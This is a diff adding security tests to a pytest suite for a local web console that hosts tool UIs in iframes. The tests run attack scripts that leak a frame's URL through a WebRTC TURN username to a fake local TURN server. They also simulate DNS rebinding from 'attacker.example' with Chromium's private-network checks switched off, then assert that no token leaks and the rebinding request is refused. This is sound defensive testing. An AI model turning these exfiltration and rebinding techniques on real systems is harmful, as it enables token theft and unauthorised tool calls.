@@ -11,6 +11,8 @@ import contextlib
 import json
 import os
 import signal
+import socket
+import struct
 import subprocess
 import sys
 import threading
@@ -23,7 +25,7 @@ from typing import Any, Final
 from urllib.parse import urlsplit
 
 import pytest
-from _process import alive
+from _process import alive, stop
 
 pytestmark = pytest.mark.real_process
 
@@ -131,13 +133,7 @@ def _running_console(data_dir: Path, *extra: str) -> Iterator[Console]:
             assert url.startswith("http://127.0.0.1:") and url.endswith("/"), url
             yield Console(url, process, data_dir)
         finally:
-            if process.poll() is None:
-                process.send_signal(signal.SIGINT)
-            try:
-                process.wait(30)
-            except subprocess.TimeoutExpired:
-                process.kill()
-                process.wait()
+            stop(process, signal.SIGINT)
             assert process.stdout is not None
             process.stdout.close()
 
@@ -164,15 +160,24 @@ def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
 
 
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    with sync_api.sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(
-            executable_path=CHROMIUM, headless=True, args=CHROMIUM_FLAGS
-        )
-        try:
-            yield chromium
-        finally:
-            chromium.close()
+def playwright() -> Iterator[Any]:
+    with sync_api.sync_playwright() as running:
+        yield running
+
+
+def _chromium(playwright: Any, *flags: str) -> Iterator[Any]:
+    chromium = playwright.chromium.launch(
+        executable_path=CHROMIUM, headless=True, args=[*CHROMIUM_FLAGS, *flags]
+    )
+    try:
+        yield chromium
+    finally:
+        chromium.close()
+
+
+@pytest.fixture(scope="module")
+def browser(playwright: Any) -> Iterator[Any]:
+    yield from _chromium(playwright)
 
 
 @pytest.fixture
@@ -385,6 +390,164 @@ def test_a_ui_frame_cannot_reach_the_console_api(page: Any) -> None:
         page.url,
     )
     assert outcome == "blocked"
+
+
+def _token(console: Console) -> str:
+    return urlsplit(console.url).path.strip("/")
+
+
+def test_a_ui_frame_can_read_no_token_from_its_url_document_referrer_or_cookies(
+    page: Any, console: Console
+) -> None:
+    _call_in_page(page, "builtin_console-test__actions", {})
+    frame = page.wait_for_selector("iframe.ui-resource").content_frame()
+    frame.wait_for_selector("#notify")
+    readable = frame.evaluate(
+        """() => {
+            let cookie;
+            try { cookie = document.cookie; } catch (err) { cookie = "refused: " + err.name; }
+            return {
+                href: location.href,
+                referrer: document.referrer,
+                html: document.documentElement.outerHTML,
+                name: window.name,
+                cookie,
+                history: String(history.length),
+            };
+        }"""
+    )
+    assert urlsplit(readable["href"]).path.startswith("/ui/"), readable["href"]
+    assert readable["referrer"] == ""
+    assert "<button" in readable["html"]  # the frame's own document, as the tool sent it
+    token = _token(console)
+    assert not [key for key, value in readable.items() if token in value], readable
+    # Its URL was a one-time capability: spent by the load the script runs in.
+    status, _ = console.request(urlsplit(readable["href"]).path)
+    assert status == 404
+
+
+class _TurnServer:
+    """A UDP listener that speaks just enough TURN to hear a username: it answers every
+    Allocate request 401 with a realm and a nonce, as a TURN server asks for credentials,
+    and keeps every datagram it receives."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = int(self.sock.getsockname()[1])
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                data, peer = self.sock.recvfrom(4096)
+            except TimeoutError:
+                continue
+            self.received.append(data)
+            if len(data) >= 20 and data[:2] == b"\x00\x03":  # an Allocate request
+                self.sock.sendto(_allocate_401(data[4:20]), peer)
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.sock.close()
+
+
+def _stun_attribute(kind: int, value: bytes) -> bytes:
+    padding = b"\x00" * (-len(value) % 4)
+    return struct.pack("!HH", kind, len(value)) + value + padding
+
+
+def _allocate_401(cookie_and_transaction: bytes) -> bytes:
+    """A STUN Allocate error response 401 (RFC 8656) with REALM and NONCE."""
+    attributes = (
+        _stun_attribute(0x0009, b"\x00\x00\x04\x01Unauthorized")  # ERROR-CODE 401
+        + _stun_attribute(0x0014, b"nativemcp-test")  # REALM
+        + _stun_attribute(0x0015, b"0123456789abcdef")  # NONCE
+    )
+    return struct.pack("!HH", 0x0113, len(attributes)) + cookie_and_transaction + attributes
+
+
+def test_what_a_ui_frame_sends_out_through_a_webrtc_turn_username_holds_no_token(
+    page: Any, console: Console
+) -> None:
+    # No content security policy covers WebRTC: a frame can send what it reads to any
+    # UDP port as a TURN username. So what it can read must not hold the token.
+    turn = _TurnServer()
+    try:
+        _call_in_page(page, "builtin_console-test__actions", {})
+        frame = page.wait_for_selector("iframe.ui-resource").content_frame()
+        frame.wait_for_selector("#notify")
+        frame.evaluate(
+            """(port) => {
+                const known = "leak|" + location.href + "|" + document.referrer + "|";
+                const peer = new RTCPeerConnection({iceServers: [{
+                    urls: "turn:127.0.0.1:" + port + "?transport=udp",
+                    username: known, credential: "x"}]});
+                peer.createDataChannel("leak");
+                peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+                window.__peer = peer;
+            }""",
+            turn.port,
+        )
+        deadline = time.monotonic() + 20
+        while not any(b"leak|" in data for data in turn.received):
+            assert time.monotonic() < deadline, f"no TURN username arrived: {turn.received}"
+            time.sleep(0.1)
+    finally:
+        turn.close()
+    sent = b"".join(turn.received)
+    assert b"leak|http://127.0.0.1:" in sent  # the channel works, and carried the URL
+    assert _token(console).encode() not in sent
+
+
+@pytest.fixture
+def rebinding_browser(playwright: Any) -> Iterator[Any]:
+    """A Chromium whose resolver maps ``attacker.example`` to 127.0.0.1: what a DNS
+    rebinding attack achieves once the attacker's page has loaded."""
+    yield from _chromium(
+        playwright,
+        "--host-resolver-rules=MAP attacker.example 127.0.0.1",
+        # Chromium's own guard (a public page may not reach a loopback address) would
+        # stop the attack before the console sees it; this test is of the console's.
+        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
+        "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults",
+    )
+
+
+def test_a_rebinding_page_that_holds_the_token_is_refused(
+    rebinding_browser: Any, console: Console
+) -> None:
+    port = urlsplit(console.url).port
+    attacker = f"http://attacker.example:{port}"
+    context = rebinding_browser.new_context()
+    try:
+        page = context.new_page()
+        # Loading the console under the attacker's name: the Host gives it away.
+        assert page.goto(f"{attacker}/{_token(console)}/").status == 421
+        # The attacker's own page at that origin (served here, as its server would
+        # before the rebinding), calling the console as same-origin with the token.
+        page_html = "<p>the attacker's page</p>"
+        context.route(
+            f"{attacker}/", lambda route: route.fulfill(body=page_html, content_type="text/html")
+        )
+        page.goto(f"{attacker}/")
+        before = len(json.loads(console.request("api/calls")[1])["calls"])
+        status = page.evaluate(
+            """async (path) => (await fetch(path, {method: "POST",
+                headers: {"Content-Type": "application/json"},
+                body: JSON.stringify({tool: "builtin_workspace__list_directory", arguments: {}})
+            })).status""",
+            f"/{_token(console)}/api/calls",
+        )
+        assert status == 421
+        assert len(json.loads(console.request("api/calls")[1])["calls"]) == before
+    finally:
+        context.close()
 
 
 def _children(pid: int) -> set[int]:
